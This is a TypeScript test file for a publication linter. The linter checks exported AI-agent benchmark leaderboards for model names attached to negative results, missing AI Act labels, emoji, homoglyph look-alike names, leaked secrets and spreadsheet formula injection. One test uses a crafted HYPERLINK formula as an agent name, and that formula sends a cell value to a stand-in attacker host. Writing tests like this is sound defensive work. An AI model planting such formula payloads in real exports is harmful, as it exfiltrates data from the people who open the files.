import { describe, expect, it } from 'vitest';
import { lintIndex, type LintInput } from '../../../../main/core/index/lint/lint-index.ts';
import {
  DEFAULT_HUMOUR_MARKERS,
  DEFAULT_MODEL_AND_PROVIDER_NAMES,
  parseNameList,
} from '../../../../main/core/index/lint/name-lists.ts';
import type { IndexDocument } from '../../../../main/core/index/model.ts';
import { renderIndexFiles } from '../../../../main/core/index/render-files.ts';
import { TEXTS } from '../../../../main/core/index/texts.ts';
import { canonical } from '../../../../main/core/json/canonical.ts';
import { pyObjectFrom } from '../../../../main/core/json/value.ts';
import { craftedDocument } from '../support/crafted-season.ts';

const enc = new TextEncoder();
const dec = new TextDecoder();

function input(doc: IndexDocument = craftedDocument(), edit?: (files: Map<string, Uint8Array>) => void): LintInput {
  const files = renderIndexFiles(doc, { reportJson: new Map(), prompts: new Map() });
  edit?.(files);
  return {
    doc,
    files,
    modelNames: DEFAULT_MODEL_AND_PROVIDER_NAMES,
    humourMarkers: DEFAULT_HUMOUR_MARKERS,
    secrets: [],
  };
}
const codes = (i: LintInput) => lintIndex(i).map((f) => f.code);
const editText = (files: Map<string, Uint8Array>, path: string, f: (t: string) => string) =>
  files.set(path, enc.encode(f(dec.decode(files.get(path)!))));

describe('the publication linter (spec §7.3): each rule fires on a crafted violation', () => {
  it('a clean export has no finding', () => {
    expect(lintIndex(input())).toEqual([]);
  });

  it('LINT_MODEL_NAME_NEGATIVE: an agent named after a model heads a report with unsupported assertions', () => {
    const findings = lintIndex(input(craftedDocument({ names: { 'p-ada': 'gpt-4o scout' } })));
    expect(findings.map((f) => f.code)).toEqual(['LINT_MODEL_NAME_NEGATIVE']);
    expect(findings[0]!.file).toBe('reports/conformite/p-ada.html');
    expect(findings[0]!.message).toContain('proveit participant rename --season 1 --participant p-ada');
  });

  it('LINT_MODEL_NAME_NEGATIVE: reference runs included, and their own model name counts even when off the shipped list', () => {
    const doc = craftedDocument({ names: { 'ref-1': 'Zephyr runner' }, referenceModel: 'Zephyr' });
    const i = { ...input(doc), modelNames: [...DEFAULT_MODEL_AND_PROVIDER_NAMES, 'Zephyr'] };
    expect(codes(i)).toEqual(['LINT_MODEL_NAME_NEGATIVE']);
  });

  it('a display name set by the operator resolves it', () => {
    const doc = craftedDocument({ names: { 'p-ada': 'Claude helper' }, displayNames: new Map([['p-ada', 'Agent A']]) });
    expect(codes(input(doc))).toEqual([]);
  });

  it('the name list is configurable (one name a line, # comments)', () => {
    expect(parseNameList('# names\nAcme Model\n\n  Foo # provider\n')).toEqual(['Acme Model', 'Foo']);
    const doc = craftedDocument({ names: { 'p-ada': 'Acme Model 2' } });
    expect(codes({ ...input(doc), modelNames: ['Acme Model'] })).toEqual(['LINT_MODEL_NAME_NEGATIVE']);
  });

  it('LINT_MODEL_NAME_NEGATIVE in the JSON copy of a report; a display name rewrites its agent_name, the art. 50 label is added, nothing else changes', () => {
    const published = enc.encode('{"agent_name":"Gemini scout","status":"scored"}\n');
    const lintWith = (doc: IndexDocument) => {
      const files = renderIndexFiles(doc, {
        reportJson: new Map([['conformite/p-ada', published]]),
        prompts: new Map(),
      });
      return { files, findings: lintIndex({ ...input(doc), files }) };
    };
    const raw = lintWith(craftedDocument({ names: { 'p-ada': 'Gemini scout' } }));
    expect(raw.findings.map((f) => [f.code, f.file])).toEqual([
      ['LINT_MODEL_NAME_NEGATIVE', 'reports/conformite/p-ada.html'],
      ['LINT_MODEL_NAME_NEGATIVE', 'reports/conformite/p-ada.json'],
    ]);
    // Canonical JSON, as the copy is written: ensure_ascii turns the French label's accents into \u escapes.
    const label = `"ai_act_label":${canonical(
      pyObjectFrom([
        ['en', TEXTS.en.aiActLabel],
        ['fr', TEXTS.fr.aiActLabel],
      ]),
    )}`;
    expect(dec.decode(raw.files.get('reports/conformite/p-ada.json'))).toBe(
      `{"agent_name":"Gemini scout",${label},"status":"scored"}\n`,
    );
    const renamed = lintWith(
      craftedDocument({ names: { 'p-ada': 'Gemini scout' }, displayNames: new Map([['p-ada', 'Agent A']]) }),
    );
    expect(renamed.findings).toEqual([]);
    expect(dec.decode(renamed.files.get('reports/conformite/p-ada.json'))).toBe(
      `{"agent_name":"Agent A",${label},"status":"scored"}\n`,
    );
    // A version exported before report copies were labelled is written again as it was: the scorer's bytes.
    const before = craftedDocument({ names: { 'p-ada': 'Ada' } });
    delete before.report_copies_labelled;
    const unlabelled = enc.encode('{"agent_name":"Ada","status":"scored"}\n');
    const files = renderIndexFiles(before, {
      reportJson: new Map([['conformite/p-ada', unlabelled]]),
      prompts: new Map(),
    });
    expect(files.get('reports/conformite/p-ada.json')).toBe(unlabelled);
    expect(lintIndex({ ...input(before), files })).toEqual([]);
  });

  it('LINT_MODEL_NAME_NEGATIVE: a declared stack naming a model on a row with negative results; a stack the operator declares resolves it', () => {
    const stacked = (declaredStacks?: Map<string, string>) => {
      const doc = craftedDocument(declaredStacks ? { declaredStacks } : {});
      const row = doc.tracks.flatMap((t) => t.community).find((r) => r.participant_id === 'p-ada')!;
      if (!declaredStacks) row.declared_stack = 'LangChain on GPT-4o';
      return lintIndex(input(doc));
    };
    const findings = stacked();
    expect(findings.map((f) => [f.code, f.file, f.where])).toEqual([
      ['LINT_MODEL_NAME_NEGATIVE', 'tables/conformite-community.csv', 'conformite/p-ada: declared_stack'],
    ]);
    expect(findings[0]!.message).toContain(
      'proveit participant rename --season 1 --participant p-ada --declared-stack',
    );
    expect(stacked(new Map([['p-ada', 'a general-purpose agent framework']]))).toEqual([]);
  });

  it('a declared stack naming a model on a row without negative results is no finding', () => {
    const doc = craftedDocument();
    const p = doc.reports.find((r) => r.participant_id === 'p-ada')!;
    for (const list of [p.unsupported, p.instrument_faults, p.rejected_at_close, p.not_submitted]) list.length = 0;
    doc.tracks.flatMap((t) => t.community).find((r) => r.participant_id === 'p-ada')!.declared_stack =
      'LangChain on GPT-4o';
    expect(codes(input(doc))).toEqual([]);
  });

  it("LINT_MODEL_NAME_NEGATIVE: a reference run's model is read from the Index's own model column, with no list given", () => {
    const doc = craftedDocument({ names: { 'p-ada': 'Zephyr scout' }, referenceModel: 'Zephyr' });
    const findings = lintIndex({ ...input(doc), modelNames: [] });
    expect(findings.map((f) => [f.code, f.file])).toEqual([
      ['LINT_MODEL_NAME_NEGATIVE', 'reports/conformite/p-ada.html'],
    ]);
    expect(findings[0]!.message).toContain('"Zephyr"');
  });

  it('LINT_AI_ACT_LABEL_MISSING: index.json without ai_act_label, a CSV row without the label, a CSV without the column', () => {
    const clean = input();
    expect(JSON.parse(dec.decode(clean.files.get('index.json')))['ai_act_label']).toMatchObject({
      fr: expect.stringContaining('article 50'),
      en: expect.stringContaining('Article 50'),
    });
    for (const [path, bytes] of clean.files)
      if (path.endsWith('.csv'))
        for (const line of dec.decode(bytes).split('\r\n').slice(1, -1)) expect(line).toContain('AI Act');
    const i = input(undefined, (files) => {
      editText(files, 'index.json', (t) => {
        const o = JSON.parse(t) as Record<string, unknown>;
        delete o['ai_act_label'];
        return JSON.stringify(o);
      });
      const csv = 'tables/conformite-community.csv';
      editText(files, csv, (t) => {
        const lines = t.split('\r\n');
        lines[2] = lines[2]!.slice(0, lines[2]!.lastIndexOf(',"Transparence'));
        return lines.join('\r\n');
      });
      editText(files, 'tables/generique-reference.csv', (t) => t.replace(',ai_act_label', ''));
    });
    expect(
      lintIndex(i)
        .filter((f) => f.code === 'LINT_AI_ACT_LABEL_MISSING')
        .map((f) => [f.file, f.where]),
    ).toEqual([
      ['index.json', 'ai_act_label'],
      ['tables/conformite-community.csv', 'row 2'],
      ['tables/generique-reference.csv', 'header'],
    ]);
  });

  it('LINT_AI_ACT_LABEL_MISSING: a report JSON copy without ai_act_label, or with one language only', () => {
    const doc = craftedDocument();
    const report = enc.encode('{"agent_name":"Ada","status":"scored"}\n');
    const files = renderIndexFiles(doc, {
      reportJson: new Map([
        ['conformite/p-ada', report],
        ['conformite/p-bob', report],
      ]),
      prompts: new Map(),
    });
    const paths = [...files.keys()].filter((p) => p.startsWith('reports/') && p.endsWith('.json'));
    expect(paths.length).toBeGreaterThan(0);
    expect(lintIndex({ ...input(doc), files }).filter((f) => f.code === 'LINT_AI_ACT_LABEL_MISSING')).toEqual([]);
    const [first, second] = paths;
    files.set(first!, report);
    if (second)
      editText(files, second, (t) => {
        const o = JSON.parse(t) as { ai_act_label: Record<string, string> };
        delete o.ai_act_label['en'];
        return JSON.stringify(o);
      });
    expect(
      lintIndex({ ...input(doc), files })
        .filter((f) => f.code === 'LINT_AI_ACT_LABEL_MISSING')
        .map((f) => [f.file, f.where, f.facts]),
    ).toEqual(paths.slice(0, 2).map((p) => [p, 'ai_act_label', { place: 'data' }]));
  });

  it('LINT_HUMOUR_OR_EMOJI: an emoji or "lol" on a named negative result', () => {
    expect(codes(input(craftedDocument({ names: { 'p-ada': 'Ada \u{1F602}' } })))).toContain('LINT_HUMOUR_OR_EMOJI');
    expect(codes(input(craftedDocument({ names: { 'p-ada': 'Ada lol' } })))).toEqual(['LINT_HUMOUR_OR_EMOJI']);
  });

  it('LINT_COMMUNITY_LABEL_MISSING: a community row of the page without "declared stack, not verified"', () => {
    const i = input(undefined, (files) =>
      editText(files, 'index.en.html', (t) =>
        t.replace('<span class="label" data-lint="community-label">declared stack, not verified</span>', ''),
      ),
    );
    const findings = lintIndex(i);
    expect(findings.map((f) => f.code)).toEqual(['LINT_COMMUNITY_LABEL_MISSING']);
    expect(findings[0]!.where).toBe('community row p-ada');
  });

  it('LINT_AI_ACT_LABEL_MISSING: a report page without the art. 50 label', () => {
    const i = input(undefined, (files) =>
      editText(files, 'reports/generique/g-cy.en.html', (t) => t.replace(/<p class="ai-act"[^]*?<\/p>/, '')),
    );
    expect(lintIndex(i).map((f) => [f.code, f.file])).toEqual([
      ['LINT_AI_ACT_LABEL_MISSING', 'reports/generique/g-cy.en.html'],
    ]);
  });

  it('LINT_TRACKS_MIXED: a generic row in the compliance table, in the document and on the page', () => {
    const doc = craftedDocument();
    doc.tracks[0]!.community.push(doc.tracks[1]!.community[0]!);
    expect(codes(input(doc))).toContain('LINT_TRACKS_MIXED');
    const i = input(undefined, (files) =>
      editText(files, 'index.html', (t) =>
        t.replace('data-row="community" data-track="conformite"', 'data-row="community" data-track="generique"'),
      ),
    );
    expect(codes(i)).toEqual(['LINT_TRACKS_MIXED']);
  });

  it('LINT_FORMULA_TEXT: an agent name or a reference run field a spreadsheet reads as a formula, named with its fix', () => {
    const doc = craftedDocument({
      names: { 'p-ada': '=HYPERLINK("http://evil.example/?x="&A1,"open")' },
      displayNames: new Map([['g-cy', '@cy']]),
      referenceModel: '-Zephyr',
    });
    const findings = lintIndex(input(doc)).filter((f) => f.code === 'LINT_FORMULA_TEXT');
    expect(findings.map((f) => [f.file, f.where])).toEqual([
      ['tables/conformite-reference.csv', 'conformite/ref-1: model'],
      ['tables/conformite-community.csv', 'conformite/p-ada: agent'],
      ['tables/generique-community.csv', 'generique/g-cy: agent'],
    ]);
    expect(findings[1]!.message).toContain('proveit participant rename --season 1 --participant p-ada');
    expect(findings[0]!.message).toContain('proveit participant reference --season 1 --participant ref-1');
    // The console words the finding from its facts, never from the CLI's sentence (docs/console.md "Screens").
    expect(findings.map((f) => f.facts)).toEqual([
      { field: 'model', character: '-' },
      { field: 'agent', character: '=' },
      { field: 'agent', character: '@' },
    ]);
    const renamed = craftedDocument({
      names: { 'p-ada': '=HYPERLINK("http://evil.example/?x="&A1,"open")' },
      displayNames: new Map([['p-ada', 'Agent A']]),
    });
    expect(codes(input(renamed))).toEqual([]);
  });

  it('LINT_SECRET: a known secret value, a private key block, an API key or a season token in any file; the value is never printed', () => {
    const salt = 'ab'.repeat(32);
    const withSalt = input(craftedDocument({ displayNames: new Map([['p-fay', `Fay ${salt}`]]) }));
    const found = lintIndex({ ...withSalt, secrets: [{ kind: 'freeze salt before reveal', value: salt }] });
    expect(found.map((f) => f.code)).toContain('LINT_SECRET');
    expect(JSON.stringify(found)).not.toContain(salt);
    for (const leaked of ['-----BEGIN PRIVATE KEY-----', 'mcp_free_0123456789abcdef', `sst_${'A'.repeat(43)}`]) {
      const i = input(undefined, (files) => editText(files, 'reports/conformite/p-bob.html', (t) => `${t}${leaked}`));
      expect(codes(i)).toEqual(['LINT_SECRET']);
    }
  });
});

// Issue 36 item 5: names that copy another participant's, exactly or with look-alike characters, were shown side by
// side in the Index with no finding (docs/index-export.md "Names that look alike").
describe('the publication linter: two rows shown under one name, or under names that read alike', () => {
  const nameFindings = (doc: IndexDocument) =>
    lintIndex(input(doc)).filter((f) => f.code === 'LINT_NAME_DUPLICATE' || f.code === 'LINT_NAME_CONFUSABLE');

  it('a Cyrillic е homoglyph: "Rеference run" (U+0435) beside the reference run "Reference run" is LINT_NAME_CONFUSABLE naming both rows', () => {
    const doc = craftedDocument({ names: { 'ref-1': 'Reference run', 'p-ada': 'R\u0435ference run' } });
    const findings = lintIndex(input(doc));
    expect(findings.map((f) => [f.code, f.file, f.where])).toEqual([
      ['LINT_NAME_CONFUSABLE', 'index.html', 'conformite/p-ada and conformite/ref-1: agent'],
    ]);
    const [finding] = findings;
    expect(finding!.facts).toEqual({
      name: 'R\u0435ference run',
      other_name: 'Reference run',
      other_participant_id: 'ref-1',
      other_track: 'conformite',
      position: '2',
      code_point: 'U+0435',
      other_code_point: 'U+0065',
    });
    expect(finding!.message).toContain('first at character 2 (U+0435 against U+0065)');
    expect(finding!.message).toContain('proveit participant rename --season 1 --participant p-ada --display-name NAME');
    // The community row is the one to rename: the operator names the reference runs.
    expect(finding!.fix).toEqual({ act: 'display_name', track: 'conformite', participant_id: 'p-ada' });
  });

  it('an exact copy of another participant’s name is LINT_NAME_DUPLICATE naming both rows; a display name resolves it', () => {
    const doc = craftedDocument({ names: { 'p-ada': 'Fay' } });
    const findings = nameFindings(doc);
    expect(findings.map((f) => [f.code, f.where, f.fix?.participant_id])).toEqual([
      ['LINT_NAME_DUPLICATE', 'conformite/p-fay and conformite/p-ada: agent', 'p-fay'],
    ]);
    expect(findings[0]!.facts).toEqual({ name: 'Fay', other_participant_id: 'p-ada', other_track: 'conformite' });
    expect(findings[0]!.message).toContain(
      'participants p-fay (conformite) and p-ada (conformite) are both shown as "Fay"',
    );
    expect(
      nameFindings(craftedDocument({ names: { 'p-ada': 'Fay' }, displayNames: new Map([['p-fay', 'Fay B']]) })),
    ).toEqual([]);
  });

  it('a copy across tracks, by display name, is found too: the generic participant shown as the compliance reference run', () => {
    const doc = craftedDocument({ displayNames: new Map([['g-cy', 'Reference agent']]) });
    expect(nameFindings(doc).map((f) => [f.code, f.where])).toEqual([
      ['LINT_NAME_DUPLICATE', 'generique/g-cy and conformite/ref-1: agent'],
    ]);
  });

  it('a name stored with an invisible U+034F, or typed in NFD, reads as the name it copies', () => {
    const hidden = craftedDocument({ names: { 'ref-1': 'Reference run', 'p-ada': 'Refer\u034Fence run' } });
    expect(nameFindings(hidden).map((f) => [f.code, f.facts['code_point'], f.facts['other_code_point']])).toEqual([
      ['LINT_NAME_CONFUSABLE', 'U+034F', 'U+0065'],
    ]);
    // Canonically equivalent texts are the same name.
    const nfd = craftedDocument({
      names: { 'p-ada': 'Équipe Zoë' },
      displayNames: new Map([['p-bob', 'E\u0301quipe Zoe\u0308']]),
    });
    expect(nameFindings(nfd).map((f) => f.code)).toEqual(['LINT_NAME_DUPLICATE']);
  });

  it('digit and letter look-alikes: "Agent 1" beside "Agent l" is LINT_NAME_CONFUSABLE', () => {
    const doc = craftedDocument({ names: { 'p-ada': 'Agent 1' }, displayNames: new Map([['p-fay', 'Agent l']]) });
    expect(nameFindings(doc).map((f) => [f.code, f.facts['code_point'], f.facts['other_code_point']])).toEqual([
      ['LINT_NAME_CONFUSABLE', 'U+006C', 'U+0031'],
    ]);
  });

  it('legitimate accented names are not flagged: "Équipe Zoë", "Müller" beside "Equipe Zoe" and "Muller"', () => {
    const doc = craftedDocument({
      names: { 'p-ada': 'Équipe Zoë' },
      displayNames: new Map([
        ['p-bob', 'Equipe Zoe'],
        ['p-fay', 'Müller'],
        ['g-cy', 'Muller'],
      ]),
    });
    expect(lintIndex(input(doc))).toEqual([]);
  });

  it('one participant shown in both tracks under its one name is not a copy of itself', () => {
    const doc = craftedDocument();
    const generique = doc.tracks.find((s) => s.track === 'generique')!;
    const ada = doc.tracks.find((s) => s.track === 'conformite')!.community.find((r) => r.participant_id === 'p-ada')!;
    generique.community = [{ ...generique.community[0]!, participant_id: 'p-ada', agent: ada.agent }];
    expect(nameFindings(doc)).toEqual([]);
  });
});

describe('the linter reads the replay bundles the export publishes (issue 39 item 6)', () => {
  const bundles = (files: Record<string, string>) =>
    new Map(Object.entries(files).map(([path, text]) => [path, enc.encode(text)]));
  const renamed = craftedDocument({
    names: { 'p-ada': 'Claude helper' },
    displayNames: new Map([['p-ada', 'Agent A']]),
  });

  it('a display name does not reach the bundle: the enrolled model name there is LINT_MODEL_NAME_NEGATIVE naming each file, with no fix', () => {
    const findings = lintIndex({
      ...input(renamed),
      bundles: bundles({
        'bundles/conformite/expected/scores.json': canonical(
          pyObjectFrom([
            [
              'participants',
              [
                pyObjectFrom([
                  ['participant_id', 'p-ada'],
                  ['agent_name', 'Claude helper'],
                  ['declared_stack', 'OpenAI API'],
                ]),
                pyObjectFrom([
                  ['participant_id', 'p-fay'],
                  ['agent_name', 'Fay'],
                  ['declared_stack', 'plain'],
                ]),
              ],
            ],
          ]),
        ),
        'bundles/conformite/submissions.ndjson':
          '{"participant_id":"p-ada","enrolled_did":"did:x","agent_name":"Claude helper","declared_stack":"x","submission":null}\n' +
          '{"export_signature":{"lines":1}}\n',
      }),
    });
    expect(findings.map((f) => [f.code, f.file, f.facts['site'], f.facts['name'], f.fix])).toEqual([
      ['LINT_MODEL_NAME_NEGATIVE', 'bundles/conformite/expected/scores.json', 'bundle_agent_name', 'Claude', undefined],
      [
        'LINT_MODEL_NAME_NEGATIVE',
        'bundles/conformite/expected/scores.json',
        'bundle_declared_stack',
        'OpenAI',
        undefined,
      ],
      ['LINT_MODEL_NAME_NEGATIVE', 'bundles/conformite/submissions.ndjson', 'bundle_agent_name', 'Claude', undefined],
    ]);
    expect(findings[0]!.where).toBe('conformite/p-ada: agent_name in the replay bundle');
    expect(findings[0]!.message).toContain('cannot change without breaking the replay');
  });

  it('a name of the other track, of a participant without negative results, or in text that is not a name field is no finding', () => {
    const findings = lintIndex({
      ...input(renamed),
      bundles: bundles({
        // generique's p-ada is another participant's row: the conformite report decides, never another track's.
        'bundles/generique/expected/reports/p-ada.json': '{"participant_id":"p-zed","agent_name":"Claude helper"}\n',
        'bundles/conformite/corpus/README.md': 'Compare with Claude and GPT outputs.\n',
        'bundles/conformite/proofs/x.json': '{"text":"Claude helper","participant_id":"p-ada"}\n',
      }),
    });
    expect(findings).toEqual([]);
  });

  it('an emoji or a humour marker in the enrolled agent name in the bundle is LINT_HUMOUR_OR_EMOJI', () => {
    const findings = lintIndex({
      ...input(renamed),
      bundles: bundles({
        'bundles/conformite/expected/reports/p-ada.json': '{"participant_id":"p-ada","agent_name":"Ada \u{1F602}"}\n',
      }),
    });
    expect(findings.map((f) => [f.code, f.facts['site']])).toEqual([['LINT_HUMOUR_OR_EMOJI', 'bundle_agent_name']]);
  });

  it('a secret in a bundle file is LINT_SECRET naming it, as on a page', () => {
    const findings = lintIndex({
      ...input(renamed),
      secrets: [{ kind: 'operator signing key (hex)', value: 'ab'.repeat(32) }],
      bundles: bundles({ 'bundles/conformite/proofs/p1.json': `{"note":"${'ab'.repeat(32)}"}\n` }),
    });
    expect(findings.map((f) => [f.code, f.file])).toEqual([['LINT_SECRET', 'bundles/conformite/proofs/p1.json']]);
  });
});
